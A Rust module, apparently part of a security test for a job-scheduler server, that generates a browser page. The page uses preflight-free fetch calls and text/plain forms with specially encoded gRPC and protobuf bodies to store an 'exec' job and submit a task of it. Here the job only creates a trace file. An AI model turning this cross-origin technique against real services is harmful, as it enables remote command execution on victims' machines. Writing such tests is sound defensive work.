//! The attack of the page: it stores a job that runs a command, and submits a task of that job.

use std::path::Path;

use serde_json::json;

const JOB: &str = "attack";
const TASK: &str = "6f1d1a52-0000-4000-8000-000000000001";

/// Paths and bodies of an attack that creates a file if it succeeds.
pub(crate) struct BrowserAttack {
    put_job: Vec<u8>,
    submit: Vec<u8>,
    job_json: String,
}

/// The end of a body that a form of type `text/plain` sends after the name of its only field: `=`, the value, a line
/// break.
const FORM_TAIL: &[u8] = b"=x\r\n";
/// The gRPC methods that the page calls.
const PUT_JOB: &str = "/dueline.v1.Frontend/PutJob";
const SUBMIT: &str = "/dueline.v1.Frontend/Submit";

impl BrowserAttack {
    /// An attack whose command creates the file `trace`.
    pub(crate) fn new(trace: &Path) -> Self {
        let config = json!({ "command": ["touch", trace.display().to_string()] });
        let handler = [bytes(1, b"exec"), bytes(2, config.to_string().as_bytes())].concat();
        // The last field of each message holds the bytes that a form appends to the body.
        let job = [
            bytes(1, JOB.as_bytes()),
            bytes(3, &handler),
            bytes(2, FORM_TAIL),
        ]
        .concat();
        let task = [
            bytes(1, TASK.as_bytes()),
            bytes(3, JOB.as_bytes()),
            bytes(7, FORM_TAIL),
        ]
        .concat();
        Self {
            put_job: frame(&bytes(1, &job)),
            submit: frame(&bytes(1, &task)),
            job_json: json!({ "handler": { "kind": "exec", "config": config } }).to_string(),
        }
    }

    /// Paths to which a browser sends the page's requests without a CORS preflight.
    pub(crate) const fn simple_requests(&self) -> [&'static str; 2] {
        [PUT_JOB, SUBMIT]
    }

    /// The page: `fetch` with bodies that need no CORS preflight, `fetch` with bodies that need one, and plain forms.
    pub(crate) fn html(&self, server: &str) -> String {
        let server = json!(server);
        let rest = json!(self.job_json);
        let (put_job, submit) = (json!(self.put_job), json!(self.submit));
        let tail = FORM_TAIL.len();
        format!(
            r#"<!doctype html><meta charset="utf-8"><body><script>
const server = {server}, rest = {rest};
const calls = [["{PUT_JOB}", {put_job}], ["{SUBMIT}", {submit}]];
const latin = new TextDecoder("windows-1252");
async function attempt(path, options) {{
  try {{ await fetch(server + path, options); }} catch (refused) {{}}
}}
function form(path, bytes) {{
  return new Promise(done => {{
    const frame = document.createElement("iframe"), form = document.createElement("form");
    const field = document.createElement("textarea");
    frame.name = "f" + Math.random();
    field.name = latin.decode(new Uint8Array(bytes.slice(0, -{tail})));
    field.value = "x";
    Object.assign(form, {{method: "post", enctype: "text/plain", action: server + path, target: frame.name}});
    form.acceptCharset = "windows-1252";
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => done();
    form.submit();
    setTimeout(done, 3000);
  }});
}}
(async () => {{
  for (const [path, bytes] of calls) {{
    const body = new Blob([new Uint8Array(bytes)], {{type: "text/plain"}});
    await attempt(path, {{method: "POST", mode: "no-cors", body}});
  }}
  for (const [path, bytes] of calls) await form(path, bytes);
  for (const [path, bytes] of calls) {{
    const headers = {{"content-type": "application/grpc"}};
    await attempt(path, {{method: "POST", headers, body: new Uint8Array(bytes)}});
  }}
  const headers = {{"content-type": "application/json"}};
  await attempt("/v1/jobs/{JOB}", {{method: "PUT", headers, body: rest}});
  await attempt("/v1/jobs/{JOB}/tasks", {{method: "POST", mode: "no-cors", body: "{{}}"}});
  await fetch("/done", {{method: "POST"}});
}})();
</script>"#
        )
    }
}

/// A gRPC frame around a message. Its bytes contain no line break, because a form would encode it differently.
fn frame(message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).expect("a short message");
    let frame = [&[0], &length.to_be_bytes()[..], message].concat();
    let head = &frame[..frame.len() - FORM_TAIL.len()];
    assert!(!head.contains(&b'\n') && !head.contains(&b'\r'), "{head:?}");
    frame
}

/// A protobuf field of bytes. Tag and length take two bytes each, so that the tag of field 1 is not a line break.
fn bytes(field: u8, value: &[u8]) -> Vec<u8> {
    let tag = (field << 3) | 2;
    let length = value.len();
    assert!(length < 1 << 14, "a short field");
    let low = u8::try_from(length & 0x7f).expect("seven bits") | 0x80;
    let high = u8::try_from(length >> 7).expect("seven bits");
    [&[tag | 0x80, 0, low, high], value].concat()
}
